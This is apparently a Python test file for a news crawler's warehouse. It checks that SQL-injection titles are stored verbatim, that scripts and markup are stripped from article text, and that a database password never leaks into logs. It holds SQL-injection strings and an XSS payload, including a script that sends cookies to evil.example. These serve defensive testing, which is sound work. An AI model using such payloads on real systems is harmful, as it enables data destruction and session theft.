"""What reaches the warehouse, and what never leaves it.

* SQL is bound, never spliced: titles written to break SQL go through the real crawl (replica,
  fetch, extract, store) and come back byte for byte, every table still there.
* Stored text holds no markup: article pages carrying scripts, tags, event handlers and
  ``javascript:`` / ``data:`` links give articles whose text columns hold none of them.
  (Text a page *shows*, such as an escaped "<script>" in a story about it, is text and is
  kept; every reader of the warehouse escapes it, as the provnews page does.)
* Secrets stay secret: a ``provnews crawl`` subprocess whose NEWS_DB_URL carries a password
  (of a role made for the test) never prints it, on success or on failure, debug logs on.
"""

from __future__ import annotations

import re
import secrets
import subprocess

import pytest
from sqlalchemy import create_engine, text
from sqlalchemy.engine import make_url

from replica.server import ReplicaServer
from scrapers.pipeline import RunOptions, RunWindow, crawl
from scrapers.settings import REPO_ROOT
from tests.crawlutil import fast_settings, fast_site, local
from tests.subprocs import fast_sites_dir, provnews, provnews_env

SLUG = "baothanhhoa"
START, END = local(2025, 10, 1), local(2025, 11, 1)
HOSTILE_TITLES = [
    "'); DROP TABLE articles;--",
    "Robert'); DELETE FROM urls WHERE ('1'='1",
    "x' OR '1'='1' -- :title %(title)s %s $1 \\' \\\\",
    '"; TRUNCATE pages CASCADE; --',
]
MARKUP = (
    '<script>document.location="https://evil.example/?c="+document.cookie</script>'
    '<p>Đoạn <b>in đậm</b> có <a href="javascript:alert(1)">liên kết độc</a> và '
    '<img src="javascript:alert(2)" onerror="alert(3)"> ảnh.</p>'
    '<iframe src="javascript:alert(4)"></iframe><style>p{color:red}</style>'
    '<p onclick="alert(5)">Hội Liên hiệp Phụ nữ tỉnh hỗ trợ <svg onload="alert(6)">'
    "</svg>các hợp tác xã.</p><noscript><a href='javascript:void(0)'>bật JS</a></noscript>"
    '<p>Xem <a href="jAvAsCrIpT:alert(7)"><img src="data:text/html,<script>alert(8)'
    '</script>">đây</a> và <object data="javascript:alert(9)"></object>hết.</p>'
)
TEXT_COLUMNS = ("title", "lead", "body", "author", "category", "canonical_url",
                "array_to_string(tags, ' ')", "images::text")


@pytest.fixture
def replica():
    with ReplicaServer(SLUG) as server:
        yield server


def _crawl(engine, replica) -> None:
    crawl(engine, fast_site(SLUG), RunWindow(START, END), settings=fast_settings(),
          options=RunOptions(base_url=replica.base_url))


def _window_articles(replica):
    return [a for a in replica.site.articles_between(START, END)
            if a.crawlable and a.body_mode == "html"]


def test_titles_that_are_sql_come_back_verbatim_and_break_nothing(engine, replica):
    chosen = _window_articles(replica)[:len(HOSTILE_TITLES)]
    for article, title in zip(chosen, HOSTILE_TITLES, strict=True):
        replica.edit_article(article.id, title=title)
    _crawl(engine, replica)
    with engine.connect() as conn:
        stored = dict(conn.execute(text("SELECT url, title FROM articles")).all())
        tables = set(conn.execute(text(
            "SELECT tablename FROM pg_tables WHERE schemaname = 'public'")).scalars())
        urls = conn.execute(text("SELECT count(*) FROM urls")).scalar()
        pages = conn.execute(text("SELECT count(*) FROM pages")).scalar()
    assert {stored[a.url] for a in chosen} == set(HOSTILE_TITLES)
    assert {"articles", "urls", "pages", "fetches"} <= tables
    expected = replica.site.articles_between(START, END)
    assert urls == len(expected) and pages == len([a for a in expected if a.crawlable])
    assert len(stored) == pages


def test_markup_in_article_pages_never_reaches_a_text_column(engine, replica):
    chosen = _window_articles(replica)[:5]
    for article in chosen:
        replica.faults.add("^" + re.escape(article.path) + "$", "redesign",
                           old='<div id="dcontent" class="article__body">',
                           new='<div id="dcontent" class="article__body">' + MARKUP)
    _crawl(engine, replica)
    columns = ", ".join(f"coalesce({c}, '')" for c in TEXT_COLUMNS)
    with engine.connect() as conn:
        rows = {r[0]: r[1:] for r in conn.execute(text(f"SELECT url, {columns} FROM articles"))}
    hit = [rows[a.url] for a in chosen]
    # the text stays, the markup goes
    assert all("Hội Liên hiệp Phụ nữ tỉnh hỗ trợ" in r[2] and "Xem đây và hết" in r[2]
               for r in hit), hit[0][2]
    markup = re.compile(r"<\s*/?\s*[a-z!][^>]*>|javascript\s*:|on(?:error|click|load)\s*=",
                        re.I)
    dirty = {url: [TEXT_COLUMNS[i] for i, v in enumerate(vals) if markup.search(v)]
             for url, vals in rows.items()}
    assert {url: cols for url, cols in dirty.items() if cols} == {}
    assert not any(word in v for r in hit for v in r
                   for word in ("document.cookie", "color:red", "alert(", "data:"))


# --- secrets ---

@pytest.fixture
def secret_db(pg_admin_url, db_url):
    """``db_url`` reached as a new role with a password: (URL with password, password)."""
    role, password = f"pn_role_{secrets.token_hex(4)}", f"Pw{secrets.token_hex(12)}"
    admin = create_engine(pg_admin_url, isolation_level="AUTOCOMMIT")
    owner = create_engine(db_url, isolation_level="AUTOCOMMIT")
    with admin.connect() as conn:
        conn.execute(text(f"CREATE ROLE {role} LOGIN PASSWORD '{password}'"))
    with owner.connect() as conn:
        for grant in ("ALL ON SCHEMA public", "ALL ON ALL TABLES IN SCHEMA public",
                      "ALL ON ALL SEQUENCES IN SCHEMA public"):
            conn.execute(text(f"GRANT {grant} TO {role}"))
    url = make_url(db_url).set(username=role, password=password)
    yield url.render_as_string(hide_password=False), password
    with owner.connect() as conn:
        conn.execute(text(f"DROP OWNED BY {role} CASCADE"))  # its grants
    owner.dispose()
    with admin.connect() as conn:
        conn.execute(text(f"DROP ROLE {role}"))
    admin.dispose()


def _run(args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(args, env=env, cwd=REPO_ROOT, capture_output=True, text=True,
                          timeout=300)


def test_the_database_password_never_appears_in_any_output(secret_db, replica, tmp_path):
    url, password = secret_db
    env = provnews_env(url, fast_sites_dir(tmp_path, 0.02))
    replica.faults.add(r"\.htm$", "500", times=3)  # failures get logged too
    outputs = []
    done = _run(provnews("-v", "crawl", SLUG, "--since", "2025-10-01", "--until",
                         "2025-10-15", "--base-url", replica.base_url), env)
    assert done.returncode == 0, done.stderr[-3000:]
    assert "new articles" in done.stdout
    outputs.append(done)
    outputs.append(_run(provnews("db", "url"), env))
    # failures: a database that does not exist, a wrong port, a refused password
    for bad in (make_url(url).set(database="pn_missing_db"), make_url(url).set(port=1),
                make_url(url).set(username="pn_nobody")):
        failed = _run(provnews("-v", "crawl", SLUG, "--since", "2025-10-01", "--until",
                               "2025-10-02", "--base-url", replica.base_url),
                      {**env, "NEWS_DB_URL": bad.render_as_string(hide_password=False)})
        assert failed.returncode != 0
        outputs.append(failed)
    total = 0
    for out in outputs:
        total += len(out.stdout) + len(out.stderr)
        assert password not in out.stdout and password not in out.stderr, out.args
    print(f"secrets: {len(outputs)} provnews runs, {total} characters of output, "
          "no password")
    assert total > 10_000  # debug logging on: there was plenty to leak into
